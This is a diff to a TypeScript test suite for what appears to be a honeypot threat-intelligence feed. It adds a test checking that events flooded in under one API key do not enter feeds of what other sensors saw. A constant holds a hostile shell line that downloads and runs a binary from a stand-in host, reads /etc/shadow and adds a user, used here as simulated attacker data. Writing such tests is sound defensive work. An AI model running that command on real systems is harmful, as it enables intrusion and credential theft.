@@ -1,6 +1,9 @@
 import type { CanaryTokenDetail, FeedExplanation } from '@eviltwin/contract'
 import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
+import { openDatabase } from '../../platform/postgres/database.js'
+import { silent } from '../../testing/silent.js'
 import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
+import { createIndicatorStore } from './store.js'
 
 const ATTACK = 'wget http://evil.ru/x; chmod 777 x; ./x; cat /etc/shadow; crontab -l; useradd q'
 const FORMATS = ['json', 'csv', 'stix', 'misp']
@@ -144,6 +147,33 @@ describe.each(inject('postgresServers'))('poisoned intelligence on $version', (s
       expect(await explanationOf('45.9.148.50')).toMatchObject({
         indicator: { sensor_count: 4, key_count: 3 },
       })
+    })
+
+    test('what is sent with one key takes no place in a feed of what others saw', async () => {
+      const sendAs = (key: string, source: string, more: object) =>
+        api.call('/log', { method: 'POST', as: key, body: JSON.stringify(event(source, more)) })
+      const earlier = new Date(Date.now() - 3_600_000).toISOString()
+      const honest = await keyOf('south')
+      const malware = { event_type: 'file_download', url: 'http://malware.ru/x', occurred_at: earlier }
+      await sendAs(honest, '45.9.148.70', { command: ATTACK, sensor_id: 'south', occurred_at: earlier })
+      await sendAs(honest, '45.9.148.70', { ...malware, sensor_id: 'south' })
+      const flood = Array.from({ length: 20 }, (_, i) => [
+        event(`10.9.0.${i}`, { command: ATTACK }),
+        event(`10.9.0.${i}`, { event_type: 'file_download', url: `http://10.9.0.${i}/x` }),
+      ])
+      await send(...flood.flat())
+      const database = openDatabase({ connectionString: api.databaseUrl }, silent('test'), () => {})
+      const store = createIndicatorStore(database.feeds, { sources: 8, downloads: 8 })
+      const selection = {
+        since: new Date(Date.now() - 7_200_000),
+        minimumLevel: 'low',
+        minimumScore: 0,
+      } as const
+      const found: string[] = []
+      for await (const page of store.all(selection)) found.push(...page.map(({ value }) => value))
+      await database.close()
+      expect(found).toHaveLength(16)
+      expect(found).toEqual(expect.arrayContaining(['45.9.148.70', 'http://malware.ru/x']))
     })
 
     test('a score below FEEDS_MIN_SCORE lists nothing, whatever level is asked for', async () => {
